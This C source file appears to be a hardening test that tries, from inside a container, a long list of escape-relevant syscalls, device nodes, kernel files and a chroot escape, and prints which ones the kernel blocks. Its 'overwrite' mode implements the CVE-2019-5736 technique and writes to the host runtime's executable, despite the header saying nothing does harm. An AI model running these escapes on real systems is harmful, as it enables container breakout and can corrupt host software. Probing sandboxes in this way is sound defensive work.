/*
 * Tries, from inside a container, what would lead out of it, and prints one line for each attempt: "name=EPERM", or
 * "name=ok" when the kernel let it. Nothing here does harm where it is let: arguments are such that a call which passes
 * the permission checks fails later (EINVAL, EFAULT), and files of the host are opened and never written.
 *
 *   escape-probe              every attempt
 *   escape-probe overwrite    waits for a runtime to enter, and tries to write to its program (CVE-2019-5736)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* Numbers from asm-generic/unistd.h, the same on every architecture. */
enum {
  NR_open_tree = 428, NR_move_mount, NR_fsopen, NR_fsconfig, NR_fsmount, NR_fspick,
  NR_clone3 = 435, NR_pidfd_getfd = 438, NR_process_madvise = 440, NR_mount_setattr = 442,
  NR_io_uring_setup = 425, NR_io_uring_enter, NR_io_uring_register,
};
#define NOWHERE ((void *)8) /* an address that is mapped by nobody */
#define AF_ALG_ 38
#define AF_VSOCK_ 40
#define REBOOT_CAD_ON 0x89abcdef

static long opened(const char *path, int flags) {
  int fd = open(path, flags | O_CLOEXEC);
  if (fd >= 0) close(fd);
  return fd < 0 ? -1 : 0;
}

/* How many bytes can be read of it, at most one; or entries, of a directory. */
static long content(const char *path) {
  DIR *dir = opendir(path);
  if (dir != NULL) {
    long n = 0;
    for (struct dirent *e; (e = readdir(dir)) != NULL;) n += e->d_name[0] != '.';
    closedir(dir);
    if (n == 0) errno = ENODATA;
    return n == 0 ? -1 : 0;
  }
  int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  if (fd < 0) return -1;
  char c;
  long n = read(fd, &c, 1);
  close(fd);
  if (n == 0) errno = ENODATA;
  return n > 0 ? 0 : -1;
}

static long device(mode_t type, int major, int minor) {
  const char *path = "/tmp/.escape-node";
  unlink(path);
  if (mknod(path, type | 0600, makedev(major, minor)) != 0) return -1;
  long r = opened(path, O_RDWR | O_NONBLOCK);
  int saved = errno;
  unlink(path);
  errno = saved;
  /* "No such device" is said after the device cgroup has let it pass. */
  return r != 0 && (errno == ENXIO || errno == ENODEV) ? 0 : r;
}

static long joined(int flags) {
  long pid = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
  if (pid == 0) _exit(0);
  if (pid > 0) waitpid((pid_t)pid, NULL, 0);
  return pid < 0 ? -1 : 0;
}

static long clone3(unsigned long long flags) {
  unsigned long long args[11] = {flags, 0, 0, 0, SIGCHLD};
  long pid = syscall(NR_clone3, args, 88UL);
  if (pid == 0) _exit(0);
  if (pid > 0) waitpid((pid_t)pid, NULL, 0);
  return pid < 0 ? -1 : 0;
}

static long setns_self(void) {
  int fd = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
  long r = setns(fd, CLONE_NEWNS);
  int saved = errno;
  close(fd);
  errno = saved;
  return r;
}

/* The way out of a plain chroot; with pivot_root it ends in the container's own root. */
static long leave_chroot(void) {
  pid_t pid = fork();
  if (pid == 0) {
    mkdir("/tmp/.jail", 0700);
    int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (chroot("/tmp/.jail") != 0 || fchdir(root) != 0) _exit(1);
    for (int i = 0; i < 64; i++)
      if (chdir("..") != 0) _exit(1);
    if (chroot(".") != 0) _exit(1);
    _exit(access("/escape-probe", X_OK) == 0 ? 2 : 0);
  }
  int status = 0;
  waitpid(pid, &status, 0);
  rmdir("/tmp/.jail");
  errno = WEXITSTATUS(status) == 2 ? EXDEV : EPERM;
  return WEXITSTATUS(status) == 0 ? 0 : -1;
}

static long by_handle(void) {
  struct { struct file_handle h; unsigned char bytes[8]; } root = {{.handle_bytes = 8, .handle_type = 1}, {2}};
  int mountpoint = open("/etc/hosts", O_RDONLY | O_CLOEXEC);
  long fd = open_by_handle_at(mountpoint, &root.h, O_RDONLY);
  int saved = errno;
  close(mountpoint);
  errno = saved;
  return fd >= 0 || errno == ESTALE ? 0 : -1;
}

static long interface_down(void) {
  int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  struct ifreq request = {.ifr_name = "lo", .ifr_flags = IFF_UP | IFF_RUNNING};
  long r = ioctl(fd, SIOCSIFFLAGS, &request);
  int saved = errno;
  close(fd);
  errno = saved;
  return r;
}

static long a_socket(int family, int type, int protocol) {
  int fd = socket(family, type | SOCK_CLOEXEC, protocol);
  if (fd >= 0) close(fd);
  /* A family that this kernel lacks passed the filter. */
  return fd >= 0 || errno == EAFNOSUPPORT || errno == EPROTONOSUPPORT ? 0 : -1;
}

static long more_files(void) {
  struct rlimit limit;
  getrlimit(RLIMIT_NOFILE, &limit);
  limit.rlim_max = limit.rlim_max == RLIM_INFINITY ? RLIM_INFINITY : limit.rlim_max + 1;
  return setrlimit(RLIMIT_NOFILE, &limit);
}

static long realtime(void) {
  struct sched_param param = {.sched_priority = 1};
  long r = syscall(SYS_sched_setscheduler, 0, SCHED_FIFO, &param);
  if (r == 0) {
    param.sched_priority = 0;
    syscall(SYS_sched_setscheduler, 0, SCHED_OTHER, &param);
  }
  return r;
}

static long spared_by_oom(void) {
  int fd = open("/proc/self/oom_score_adj", O_WRONLY | O_CLOEXEC);
  long n = write(fd, "-1000", 5);
  int saved = errno;
  if (n > 0) pwrite(fd, "0", 1, 0);
  close(fd);
  errno = saved;
  return n > 0 ? 0 : -1;
}

static long a_time(void) {
  struct timespec wrong = {.tv_nsec = -1};
  return clock_settime(CLOCK_REALTIME, &wrong);
}

/* Each in a process of its own: what one of them reaches does not help the next. */
#define TRY(name, call) do {                                                            \
    fflush(stdout);                                                                     \
    pid_t child = fork();                                                               \
    if (child == 0) {                                                                   \
      unshare(CLONE_NEWNS); /* where it may: what it mounts is not in the others' way */ \
      errno = 0;                                                                        \
      report(name, (long)(call));                                                       \
      fflush(stdout);                                                                   \
      _exit(0);                                                                         \
    }                                                                                   \
    waitpid(child, NULL, 0);                                                            \
  } while (0)

static void report(const char *name, long result) {
  static const struct { int number; const char *word; } words[] = {
    {EPERM, "EPERM"}, {EACCES, "EACCES"}, {ENOSYS, "ENOSYS"}, {EROFS, "EROFS"}, {ENOENT, "ENOENT"}, {ENODATA, "empty"},
    {EXDEV, "inside"}, {EINVAL, "EINVAL"}, {EFAULT, "EFAULT"}, {EBADF, "EBADF"}, {ESRCH, "ESRCH"},
  };
  if (result >= 0) {
    printf("%s=ok\n", name);
    return;
  }
  for (size_t i = 0; i < sizeof words / sizeof *words; i++)
    if (words[i].number == errno) {
      printf("%s=%s\n", name, words[i].word);
      return;
    }
  printf("%s=%d\n", name, errno);
}

static void everything(void) {
  char buffer[64];
  /* mounts, by both interfaces */
  TRY("mount", mount("none", "/tmp", "tmpfs", 0, NULL));
  TRY("mount-remount", mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
  TRY("mount-proc", mount("proc", "/tmp", "proc", 0, NULL));
  TRY("mount-cgroup", mount("none", "/tmp", "cgroup", 0, "memory"));
  TRY("umount", umount2("/proc/kcore", MNT_DETACH));
  TRY("pivot_root", syscall(SYS_pivot_root, "/nowhere", "/nowhere"));
  TRY("open_tree", syscall(NR_open_tree, AT_FDCWD, "/etc", 1 /* OPEN_TREE_CLONE */));
  TRY("fsopen", syscall(NR_fsopen, "tmpfs", 0));
  TRY("fsconfig", syscall(NR_fsconfig, -1, 0, NULL, NULL, 0));
  TRY("fsmount", syscall(NR_fsmount, -1, 0, 0));
  TRY("fspick", syscall(NR_fspick, AT_FDCWD, "/tmp", 0));
  TRY("move_mount", syscall(NR_move_mount, -1, "", -1, "", 0));
  TRY("mount_setattr", syscall(NR_mount_setattr, -1, "/tmp", 0, NOWHERE, 32));
  /* namespaces */
  TRY("unshare-user", unshare(CLONE_NEWUSER));
  TRY("unshare-mount", unshare(CLONE_NEWNS));
  TRY("clone-user", joined(CLONE_NEWUSER));
  TRY("clone-net", joined(CLONE_NEWNET));
  TRY("clone3-user", clone3(CLONE_NEWUSER));
  TRY("clone3", clone3(0));
  TRY("setns", setns_self());
  /* the kernel itself */
  TRY("init_module", syscall(SYS_init_module, NOWHERE, 0UL, ""));
  TRY("finit_module", syscall(SYS_finit_module, -1, "", 0));
  TRY("delete_module", syscall(SYS_delete_module, "no_such_module", O_NONBLOCK));
  TRY("kexec_load", syscall(SYS_kexec_load, 0, 0UL, NULL, -1L));
#ifdef SYS_kexec_file_load
  TRY("kexec_file_load", syscall(SYS_kexec_file_load, -1, -1, 0UL, NULL, -1L));
#endif
  TRY("bpf", syscall(SYS_bpf, -1, NOWHERE, 8));
  TRY("perf_event_open", syscall(SYS_perf_event_open, NOWHERE, 0, -1, -1, 0));
  TRY("io_uring_setup", syscall(NR_io_uring_setup, 1, NOWHERE));
  TRY("io_uring_enter", syscall(NR_io_uring_enter, -1, 0, 0, 0, NULL, 0));
  TRY("io_uring_register", syscall(NR_io_uring_register, -1, 0, NULL, 0));
  TRY("userfaultfd", syscall(SYS_userfaultfd, -1));
  TRY("reboot", syscall(SYS_reboot, 0, 0, REBOOT_CAD_ON, NULL));
  TRY("clock_settime", a_time());
  TRY("settimeofday", syscall(SYS_settimeofday, NOWHERE, NULL));
  TRY("swapon", syscall(SYS_swapon, "/nowhere", 0));
  TRY("acct", syscall(SYS_acct, "/nowhere"));
  TRY("syslog", syscall(SYS_syslog, 10 /* SYSLOG_ACTION_SIZE_BUFFER */, NULL, 0));
  TRY("quotactl", syscall(SYS_quotactl, -1, NULL, 0, NULL));
#ifdef SYS_iopl
  TRY("iopl", syscall(SYS_iopl, 4));
  TRY("ioperm", syscall(SYS_ioperm, -1UL, 1UL, 1));
#endif
  TRY("sethostname", sethostname(buffer, -1));
  TRY("setdomainname", setdomainname(buffer, -1));
  TRY("personality", personality(ADDR_NO_RANDOMIZE) < 0 ? -1 : personality(0));
  TRY("mbind", syscall(SYS_mbind, NOWHERE, 1UL, -1, NULL, 0UL, 0));
  TRY("fanotify_init", syscall(SYS_fanotify_init, -1, 0));
  TRY("socket-alg", a_socket(AF_ALG_, SOCK_SEQPACKET, 0));
  TRY("socket-vsock", a_socket(AF_VSOCK_, SOCK_STREAM, 0));
  /* keyrings */
  TRY("add_key", syscall(SYS_add_key, "user", "escape", "x", 1UL, -1));
  TRY("request_key", syscall(SYS_request_key, "user", "escape", NULL, 0));
  TRY("keyctl", syscall(SYS_keyctl, 0, -3, 0, 0, 0));
  /* other processes */
  TRY("ptrace-stranger", ptrace(PTRACE_ATTACH, 4000000, NULL, NULL));
  TRY("kcmp", syscall(SYS_kcmp, getpid(), getpid(), 0, 0, 0));
  TRY("pidfd_getfd", syscall(NR_pidfd_getfd, -1, 0, 0));
  TRY("process_madvise", syscall(NR_process_madvise, -1, NULL, 0, 0, 0));
  TRY("move_pages", syscall(SYS_move_pages, 0, 0UL, NULL, NULL, NULL, -1));
  TRY("realtime", realtime());
  TRY("nice", setpriority(PRIO_PROCESS, 0, -1));
  TRY("rlimit", more_files());
  TRY("oom_score_adj", spared_by_oom());
  /* devices */
  TRY("block-8:0", device(S_IFBLK, 8, 0));
  TRY("block-254:0", device(S_IFBLK, 254, 0));
  TRY("block-7:0", device(S_IFBLK, 7, 0));
  TRY("char-mem", device(S_IFCHR, 1, 1));
  TRY("char-kmsg", device(S_IFCHR, 1, 11));
  TRY("char-fuse", device(S_IFCHR, 10, 229));
  TRY("char-loop-control", device(S_IFCHR, 10, 237));
  TRY("char-kvm", device(S_IFCHR, 10, 232));
  TRY("char-null", device(S_IFCHR, 1, 3));
  /* files of the kernel: opened for writing, or read */
  TRY("sysrq-trigger", opened("/proc/sysrq-trigger", O_WRONLY));
  TRY("core_pattern", opened("/proc/sys/kernel/core_pattern", O_WRONLY));
  TRY("modprobe", opened("/proc/sys/kernel/modprobe", O_WRONLY));
  TRY("ip_forward", opened("/proc/sys/net/ipv4/ip_forward", O_WRONLY));
  TRY("sys-kernel", opened("/sys/kernel/rcu_expedited", O_WRONLY));
  TRY("cgroup-procs", opened(access("/sys/fs/cgroup/cgroup.procs", F_OK) == 0 ? "/sys/fs/cgroup/cgroup.procs" : "/sys/fs/cgroup/memory/cgroup.procs", O_WRONLY));
  TRY("release_agent", mkdir(access("/sys/fs/cgroup/memory", F_OK) == 0 ? "/sys/fs/cgroup/memory/escape" : "/sys/fs/cgroup/escape", 0700));
  TRY("kcore", content("/proc/kcore"));
  TRY("proc-keys", content("/proc/keys"));
  TRY("timer_list", content("/proc/timer_list"));
  TRY("interrupts", content("/proc/interrupts"));
  TRY("firmware", content("/sys/firmware"));
  TRY("dev-mem", opened("/dev/mem", O_RDONLY));
  TRY("dev-kmsg", opened("/dev/kmsg", O_RDONLY));
  /* out of the root */
  TRY("open_by_handle_at", by_handle());
  TRY("leave-chroot", leave_chroot());
  TRY("interface", interface_down());
}

/* As the exploit: hold the entering runtime's program by a descriptor, and write to it once it no longer runs. */
static void overwrite(void) {
  for (int round = 0; round < 20000; round++) {
    DIR *proc = opendir("/proc");
    for (struct dirent *e; (e = readdir(proc)) != NULL;) {
      int pid = atoi(e->d_name);
      if (pid <= 1 || pid == getpid()) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int held = open(path, O_RDONLY | O_CLOEXEC);
      if (held < 0) continue;
      struct stat theirs, ours;
      fstat(held, &theirs);
      stat("/bin/busybox", &ours);
      if (theirs.st_ino == ours.st_ino && theirs.st_dev == ours.st_dev) {
        close(held);
        continue;
      }
      printf("held\n");
      fflush(stdout);
      snprintf(path, sizeof path, "/proc/self/fd/%d", held);
      for (int i = 0; i < 200000; i++) {
        int writable = open(path, O_WRONLY | O_CLOEXEC);
        if (writable < 0) continue;
        long n = write(writable, "#!/bin/sh\n", 10);
        printf(n > 0 ? "written\n" : "write refused: %s\n", strerror(errno));
        fflush(stdout);
        close(writable);
        break;
      }
      printf("over\n");
      fflush(stdout);
      exit(0);
    }
    closedir(proc);
  }
  printf("nobody came\n");
}

int main(int argc, char **argv) {
  if (argc > 1 && strcmp(argv[1], "overwrite") == 0) overwrite();
  else everything();
  return 0;
}
